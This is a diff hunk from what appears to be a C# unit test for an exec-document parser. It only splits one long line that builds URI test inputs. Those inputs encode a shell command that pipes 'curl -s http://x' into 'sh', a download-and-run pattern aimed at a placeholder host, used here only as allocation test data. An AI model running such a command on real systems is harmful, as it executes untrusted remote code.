@@ -123,7 +123,9 @@ public sealed class ExecDocumentTests
     public void ItAllocatesNothingOnceItHasItsBuffers()
     {
         // One that is asked for again is not read again.
-        var uris = new[] { "", "/tmp" }.Select(folder => Encoding.UTF8.GetBytes(Uri($"sh~-c~curl -s http://x | sh; cat $(ls {folder}) >/dev/null"))).ToArray();
+        var uris = new[] { "", "/tmp" }
+            .Select(folder => Encoding.UTF8.GetBytes(Uri($"sh~-c~curl -s http://x | sh; cat $(ls {folder}) >/dev/null")))
+            .ToArray();
         for (var round = 0; round < 100; round++)
             ExecDocument.Of(uris[round % 2]);
 
